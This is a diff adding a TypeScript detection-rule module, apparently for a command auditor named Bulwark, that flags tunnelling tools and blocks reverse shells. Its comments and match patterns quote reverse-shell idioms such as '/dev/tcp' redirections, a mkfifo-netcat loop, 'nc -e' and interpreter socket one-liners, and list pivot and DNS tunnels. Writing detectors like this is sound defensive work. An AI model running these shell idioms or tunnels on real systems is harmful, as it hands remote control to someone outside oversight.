@@ -1,0 +1,434 @@
+/**
+ * Tunnels and reverse shells.
+ *
+ * - `tunnel` (flag, any trust): port forwards and tunnelling services (ssh -R/-L/-D, autossh, plink,
+ *   ngrok, cloudflared, chisel, frp, bore, dev tunnels, tailscale/zerotier joins, portproxy, socat
+ *   relays, Tor). They expose the endpoint or the customer network to somewhere Bulwark cannot see.
+ * - `reverse_shell` (block, any trust): a shell wired to a network socket (`nc -e`, `/dev/tcp`,
+ *   `socat exec:`, mkfifo loops, scripted socket loops). That is remote control outside Bulwark.
+ *
+ * Allowed: `ssh user@host`, `nc -zv host 443` (port checks), plain connects and listeners.
+ */
+import type { Document, Word } from '../analysis/document';
+import {
+  FindingCollector,
+  commandWord,
+  docHas,
+  docHasAny,
+  invocations,
+  searchFirst,
+  type FindingSpec,
+  type Invocation,
+} from './command-match';
+import type { RuleContext, RuleFamily } from './rule';
+
+function tunnelSpec(ruleId: string, message: string): FindingSpec {
+  return {
+    code: 'tunnel',
+    ruleId,
+    standard: 'flag',
+    extended: 'flag',
+    message: `${message} Tunnels expose this machine or its network to a place Bulwark does not see; recorded for review.`,
+  };
+}
+function shellSpec(ruleId: string, message: string): FindingSpec {
+  return {
+    code: 'reverse_shell',
+    ruleId,
+    standard: 'block',
+    extended: 'block',
+    message: `${message} A shell wired to a network socket gives someone remote control outside Bulwark's audit.`,
+  };
+}
+
+/** Tunnelling programs and the sub-commands that only inspect or stop them. */
+const TUNNEL_TOOLS: Record<string, { label: string; passive?: readonly string[] }> = {
+  ngrok: { label: 'ngrok exposes a local port on a public URL', passive: ['version', 'help', '--version', 'update', 'diagnose'] },
+  cloudflared: { label: 'cloudflared runs a Cloudflare tunnel', passive: ['version', '--version', 'help', 'update', 'tail', 'list'] },
+  chisel: { label: 'chisel runs a TCP/SOCKS tunnel over HTTP' },
+  frpc: { label: 'frp client forwards local ports through a remote server', passive: ['verify', '-v', '--version'] },
+  frps: { label: 'frp server accepts port forwards', passive: ['verify', '-v', '--version'] },
+  bore: { label: 'bore exposes a local port through a relay' },
+  devtunnel: { label: 'Dev Tunnels expose a local port on a public URL', passive: ['list', 'show', 'delete', 'logout', 'user'] },
+  lt: { label: 'localtunnel exposes a local port on a public URL' },
+  loclx: { label: 'LocalXpose exposes a local port' },
+  pinggy: { label: 'Pinggy exposes a local port' },
+  zrok: { label: 'zrok shares a local service publicly' },
+  rathole: { label: 'rathole forwards ports through a remote server' },
+  gost: { label: 'gost runs a tunnel/proxy' },
+  'ligolo-ng': { label: 'ligolo-ng runs a network pivot tunnel' },
+  ligolo: { label: 'ligolo runs a network pivot tunnel' },
+  revsocks: { label: 'revsocks runs a reverse SOCKS tunnel' },
+  iodine: { label: 'iodine tunnels IP over DNS' },
+  iodined: { label: 'iodine tunnels IP over DNS' },
+  dnscat2: { label: 'dnscat2 tunnels a session over DNS' },
+  ptunnel: { label: 'ptunnel tunnels TCP over ICMP' },
+  'ptunnel-ng': { label: 'ptunnel tunnels TCP over ICMP' },
+  sshuttle: { label: 'sshuttle routes traffic through an SSH host' },
+  tor: { label: 'Tor routes traffic through an anonymity network', passive: ['--version', '--help'] },
+  psiphon: { label: 'Psiphon runs a circumvention tunnel' },
+  stunnel: { label: 'stunnel wraps connections in a TLS tunnel' },
+  '3proxy': { label: '3proxy runs a proxy server' },
+  microsocks: { label: 'microsocks runs a SOCKS server' },
+};
+
+/** Sub-commands and options that only inspect, configure completion, or print help. */
+const PASSIVE_ARGS = new Set([
+  'list',
+  'ls',
+  'help',
+  '-h',
+  '--help',
+  'version',
+  '--version',
+  '-v',
+  '-V',
+  'completion',
+  'verify',
+  'status',
+  'info',
+  'show',
+  'logs',
+  'tail',
+  'update',
+  'stop',
+  'delete',
+  'uninstall',
+]);
+
+/** Services that are tunnels; starting them is a tunnel too. */
+const TUNNEL_SERVICES = [
+  'tor',
+  'cloudflared',
+  'ngrok',
+  'frpc',
+  'frps',
+  'chisel',
+  'zerotier-one',
+  'openvpn',
+  'wg-quick',
+  'autossh',
+  'stunnel',
+];
+
+export const tunnelRules: RuleFamily = (doc: Document, _ctx: RuleContext) => {
+  const out = new FindingCollector();
+  for (const inv of invocations(doc)) {
+    checkSsh(inv, out);
+    checkTunnelTools(inv, out);
+    checkVpnJoins(inv, out);
+    checkNetcat(doc, inv, out);
+    checkSocat(inv, out);
+    checkPortProxy(inv, out);
+    checkInterpreterSocket(inv, out);
+    checkTunnelServiceStart(inv, out);
+  }
+  checkDevTcp(doc, out);
+  checkFifoLoop(doc, out);
+  checkPowerShellSocket(doc, out);
+  checkPipelineToShell(doc, out);
+  return out.findings;
+};
+
+const SSH_LIKE = new Set(['ssh', 'autossh', 'plink', 'klink', 'dbclient']);
+const SSH_FORWARD_LETTERS = ['R', 'L', 'D', 'w'];
+
+function checkSsh(inv: Invocation, out: FindingCollector): void {
+  if (!SSH_LIKE.has(inv.name)) return;
+  for (const w of inv.args) {
+    const v = w.value;
+    // Option clusters such as -NfR or -fN -L: case matters (-l is login, -L a forward).
+    if (v.startsWith('-') && !v.startsWith('--') && v.length >= 2) {
+      const letters = v.slice(1);
+      for (const letter of SSH_FORWARD_LETTERS) {
+        const at = letters.indexOf(letter);
+        // Only flag letters that are option letters (before any value attached to another option).
+        if (at >= 0 && /* letters before are flags */ [...letters.slice(0, at)].every((c) => 'NfTqvCgknxXAaYy46sEtMK'.includes(c))) {
+          out.add(
+            tunnelSpec(
+              'tunnel.ssh.forward',
+              `${inv.name} -${letter} sets up a ${letter === 'R' ? 'reverse (remote) port forward' : letter === 'L' ? 'local port forward' : letter === 'D' ? 'SOCKS proxy' : 'tun device tunnel'}.`,
+            ),
+            [commandWord(inv), w],
+          );
+          return;
+        }
+      }
+    }
+    const l = w.lower;
+    if (l.startsWith('remoteforward') || l.startsWith('localforward') || l.startsWith('dynamicforward') || l.startsWith('tunnel=')) {
+      out.add(tunnelSpec('tunnel.ssh.forward', `${inv.name} sets up a port forward through an -o option.`), [commandWord(inv), w]);
+      return;
+    }
+  }
+  // autossh exists to keep tunnels up.
+  if (inv.name === 'autossh' && inv.args.some((w) => w.value === '-N' || w.value === '-f')) {
+    out.add(tunnelSpec('tunnel.autossh', 'autossh keeps a background SSH session (a persistent tunnel) alive.'), [commandWord(inv)]);
+  }
+}
+
+function checkTunnelTools(inv: Invocation, out: FindingCollector): void {
+  const tool = TUNNEL_TOOLS[inv.name];
+  if (!tool || !tool.label) {
+    if (inv.name === 'code' && inv.args[0]?.lower === 'tunnel') {
+      out.add(tunnelSpec('tunnel.vscode', 'code tunnel exposes this machine through a VS Code remote tunnel.'), [
+        commandWord(inv),
+        inv.args[0],
+      ]);
+    }
+    return;
+  }
+  if (inv.args.some((w) => PASSIVE_ARGS.has(w.lower) || (tool.passive?.includes(w.lower) ?? false))) return;
+  out.add(tunnelSpec(`tunnel.${inv.name}`, `${tool.label}.`), [commandWord(inv)]);
+}
+
+function checkTunnelServiceStart(inv: Invocation, out: FindingCollector): void {
+  const lowers = inv.args.map((w) => w.lower);
+  let unit: Word | undefined;
+  if (inv.name === 'systemctl' && (lowers.includes('start') || lowers.includes('enable') || lowers.includes('restart')))
+    unit = inv.args.find((w) => isTunnelService(w.lower));
+  else if (inv.name === 'service' && (lowers.includes('start') || lowers.includes('restart')))
+    unit = inv.args.find((w) => isTunnelService(w.lower));
+  else if ((inv.name === 'start-service' || inv.name === 'sc' || inv.name === 'net') && !lowers.includes('stop'))
+    unit = inv.args.find((w) => isTunnelService(w.lower));
+  else if (inv.name === 'sysrc')
+    unit = inv.args.find((w) => TUNNEL_SERVICES.some((t) => w.lower.startsWith(t + '_enable=')) && w.lower.includes('yes'));
+  if (unit) out.add(tunnelSpec('tunnel.service', `Starts or enables the tunnel service "${unit.value}".`), [commandWord(inv), unit]);
+}
+
+function isTunnelService(name: string): boolean {
+  let n = name.endsWith('.service') ? name.slice(0, -8) : name;
+  const at = n.indexOf('@');
+  if (at > 0) n = n.slice(0, at);
+  return TUNNEL_SERVICES.includes(n);
+}
+
+function checkVpnJoins(inv: Invocation, out: FindingCollector): void {
+  const first = inv.args[0]?.lower;
+  if (inv.name === 'tailscale') {
+    const joins =
+      first === 'up' ||
+      first === 'login' ||
+      first === 'funnel' ||
+      first === 'serve' ||
+      (first === 'set' && inv.args.some((w) => w.lower.startsWith('--exit-node') || w.lower.startsWith('--advertise')));
+    if (joins)
+      out.add(
+        tunnelSpec('tunnel.tailscale', `tailscale ${first} joins a tailnet, exposes a service or routes traffic through another node.`),
+        [commandWord(inv), inv.args[0]],
+      );
+  } else if (inv.name === 'zerotier-cli' && first === 'join') {
+    out.add(tunnelSpec('tunnel.zerotier', 'zerotier-cli join connects this machine to a ZeroTier network.'), [
+      commandWord(inv),
+      inv.args[0],
+    ]);
+  } else if (inv.name === 'wg-quick' && first === 'up') {
+    out.add(tunnelSpec('tunnel.wireguard', 'wg-quick up brings up a WireGuard tunnel.'), [commandWord(inv), inv.args[0]]);
+  } else if (
+    inv.name === 'openvpn' &&
+    inv.args.some((w) => w.lower === '--config' || w.lower === '--remote' || w.lower.endsWith('.ovpn'))
+  ) {
+    out.add(tunnelSpec('tunnel.openvpn', 'openvpn connects this machine to a VPN.'), [commandWord(inv)]);
+  }
+}
+
+const NETCATS = new Set(['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'busybox']);
+
+function checkNetcat(doc: Document, inv: Invocation, out: FindingCollector): void {
+  if (!NETCATS.has(inv.name)) return;
+  if (inv.name === 'busybox' && inv.args[0]?.lower !== 'nc') return;
+  const exec = inv.args.find(
+    (w) =>
+      w.value === '-e' ||
+      w.value === '-c' ||
+      w.lower === '--exec' ||
+      w.lower === '--sh-exec' ||
+      w.lower === '--lua-exec' ||
+      (w.value.startsWith('-') && !w.value.startsWith('--') && w.value.length > 2 && w.value.includes('e') && !w.value.includes('z')),
+  );
+  if (exec) {
+    out.add(
+      shellSpec(
+        'shell.netcat-exec',
+        `${inv.name} ${exec.value} runs a program with its input and output wired to the network connection (a reverse or bind shell).`,
+      ),
+      [commandWord(inv), exec],
+    );
+    return;
+  }
+  // `nc -l -p 8080 | nc host 22`: a relay between a listener and another host.
+  const pipeline = doc.pipelines[inv.command.pipeline];
+  if (pipeline && pipeline.length > 1 && inv.command.position === 0 && inv.args.some((w) => w.value === '-l' || w.value.startsWith('-l'))) {
+    const next = doc.commands[pipeline[1]!];
+    if (next && NETCATS.has(next.name))
+      out.add(tunnelSpec('tunnel.netcat-relay', 'Two netcat processes relay a listening port to another host.'), [
+        commandWord(inv),
+        next.span,
+      ]);
+  }
+}
+
+function checkSocat(inv: Invocation, out: FindingCollector): void {
+  if (inv.name !== 'socat') return;
+  const exec = inv.args.find(
+    (w) => w.lower.startsWith('exec:') || w.lower.startsWith('system:') || w.lower.includes(',exec:') || w.lower.startsWith('"exec:'),
+  );
+  if (exec) {
+    out.add(shellSpec('shell.socat-exec', 'socat connects a program (EXEC:/SYSTEM:) to a network address.'), [commandWord(inv), exec]);
+    return;
+  }
+  const network = inv.args.filter((w) => isSocatNetworkAddress(w));
+  if (network.length >= 2) {
+    out.add(tunnelSpec('tunnel.socat-relay', 'socat relays one network address to another (a port forward).'), [
+      commandWord(inv),
+      network[0],
+      network[1],
+    ]);
+  }
+}
+
+function isSocatNetworkAddress(w: Word): boolean {
+  const l = w.lower;
+  return [
+    'tcp',
+    'tcp4',
+    'tcp6',
+    'udp',
+    'udp4',
+    'udp6',
+    'openssl',
+    'tcp-listen',
+    'tcp4-listen',
+    'tcp6-listen',
+    'udp-listen',
+    'openssl-listen',
+    'sctp',
+    'socks4',
+    'socks4a',
+    'proxy',
+  ].some((p) => l.startsWith(p + ':'));
+}
+
+function checkPortProxy(inv: Invocation, out: FindingCollector): void {
+  const lowers = inv.args.map((w) => w.lower);
+  if (inv.name === 'netsh' && lowers.includes('portproxy') && (lowers.includes('add') || lowers.includes('set'))) {
+    out.add(tunnelSpec('tunnel.portproxy', 'netsh interface portproxy forwards a local port to another address.'), [commandWord(inv)]);
+  } else if (
+    (inv.name === 'firewall-cmd' && inv.args.some((w) => w.lower.includes('forward-port'))) ||
+    ((inv.name === 'iptables' || inv.name === 'nft') && lowers.some((l) => l === 'dnat' || l.startsWith('--to-destination')))
+  ) {
+    out.add(tunnelSpec('tunnel.port-forward', `${inv.name} forwards a port to another address.`), [commandWord(inv)]);
+  } else if (inv.name === 'add-netnatstaticmapping') {
+    out.add(tunnelSpec('tunnel.port-forward', 'Add-NetNatStaticMapping forwards a port to another address.'), [commandWord(inv)]);
+  }
+}
+
+const INTERPRETERS = new Set(['python', 'python2', 'python3', 'perl', 'ruby', 'php', 'node', 'lua', 'awk', 'gawk', 'irb', 'jrunscript']);
+const SOCKET_MARKERS = ['socket', 'fsockopen', 'tcpsocket', '/inet/tcp', 'net.connect', 'net.socket', 'io::socket'];
+const EXEC_MARKERS = [
+  'dup2',
+  'pty.spawn',
+  'subprocess',
+  '/bin/sh',
+  '/bin/bash',
+  'cmd.exe',
+  'exec(',
+  'exec ',
+  'spawn(',
+  'popen',
+  'system(',
+  'child_process',
+  'proc_open',
+  'shell_exec',
+  '|&',
+];
+
+/** One-line reverse shells in script interpreters (python -c 'import socket,os,pty …'). */
+function checkInterpreterSocket(inv: Invocation, out: FindingCollector): void {
+  if (!INTERPRETERS.has(inv.name) && !(inv.name.startsWith('python') && inv.name.length <= 10)) return;
+  for (const w of inv.args) {
+    const l = w.lower;
+    if (l.length < 16) continue;
+    if (SOCKET_MARKERS.some((m) => l.includes(m)) && EXEC_MARKERS.some((m) => l.includes(m))) {
+      out.add(shellSpec('shell.interpreter-socket', `${inv.name} opens a socket and attaches a shell or process to it.`), [
+        commandWord(inv),
+        w,
+      ]);
+      return;
+    }
+  }
+}
+
+/** bash /dev/tcp redirections wired to a shell (`bash -i >& /dev/tcp/h/p 0>&1`, `exec 5<>/dev/tcp/…`). */
+function checkDevTcp(doc: Document, out: FindingCollector): void {
+  const dev = docHasAny(doc, ['/dev/tcp/', '/dev/udp/']);
+  if (!dev) return;
+  const wiring = docHasAny(doc, [
+    '0>&1',
+    '0<&',
+    '>&0',
+    '<&0',
+    'sh -i',
+    'bash -i',
+    '<>/dev/',
+    '<> /dev/',
+    '<&3',
+    '<&5',
+    '<&196',
+    '| sh',
+    '|sh',
+    '| bash',
+    '|bash',
+    '/bin/sh',
+    '/bin/bash',
+  ]);
+  if (!wiring) return;
+  out.add(shellSpec('shell.dev-tcp', `The shell's ${dev} device connects a shell to a remote host.`), searchFirst(doc, dev, wiring));
+}
+
+/** `mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f` and friends. */
+function checkFifoLoop(doc: Document, out: FindingCollector): void {
+  const fifo = docHasAny(doc, ['mkfifo', 'mknod']);
+  if (!fifo) return;
+  const net = docHasAny(doc, ['nc ', 'ncat ', 'netcat ', 'telnet ', 'openssl s_client', 'socat ']);
+  const shell = docHasAny(doc, ['sh -i', 'bash -i', '/bin/sh', '/bin/bash', '| sh', '|sh']);
+  if (net && shell)
+    out.add(shellSpec('shell.fifo-loop', 'A named pipe loops a shell through a network connection.'), searchFirst(doc, fifo, net));
+}
+
+/** PowerShell TCP client/listener loops that execute what they receive (Invoke-PowerShellTcp style). */
+function checkPowerShellSocket(doc: Document, out: FindingCollector): void {
+  const sock = docHasAny(doc, ['sockets.tcpclient', 'sockets.tcplistener', 'net.sockets.socket', 'sockets.udpclient']);
+  if (!sock || !docHas(doc, 'getstream')) return;
+  const exec = docHasAny(doc, ['invoke-expression', 'iex', 'out-string', 'sendback', 'cmd.exe', 'start-process', 'sslstream']);
+  if (exec) {
+    out.add(
+      shellSpec(
+        'shell.powershell-socket',
+        'A PowerShell script reads commands from a TCP stream and sends results back (a scripted reverse shell).',
+      ),
+      searchFirst(doc, sock, 'getstream', exec),
+    );
+  } else {
+    out.add(tunnelSpec('tunnel.powershell-socket', 'A PowerShell script opens a raw TCP stream to another host.'), searchFirst(doc, sock));
+  }
+}
+
+const SHELL_NAMES = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'cmd', 'powershell', 'pwsh']);
+const NET_CLIENTS = new Set(['nc', 'ncat', 'netcat', 'telnet', 'openssl', 'socat']);
+
+/** `telnet h 1 | /bin/sh | telnet h 2`, `openssl s_client … | /bin/sh`: network output fed to a shell. */
+function checkPipelineToShell(doc: Document, out: FindingCollector): void {
+  for (const p of doc.pipelines) {
+    if (!p || p.length < 2) continue;
+    const cmds = p.map((i) => doc.commands[i]!);
+    const netAt = cmds.findIndex((c) => NET_CLIENTS.has(c.name) && (c.name !== 'openssl' || c.words.some((w) => w.lower === 's_client')));
+    if (netAt < 0) continue;
+    const shell = cmds.slice(netAt + 1).find((c) => SHELL_NAMES.has(c.name));
+    if (shell)
+      out.add(shellSpec('shell.network-pipe', `Output of a network connection (${cmds[netAt]!.name}) is fed to a shell.`), [
+        cmds[netAt]!.span,
+        shell.span,
+      ]);
+  }
+}
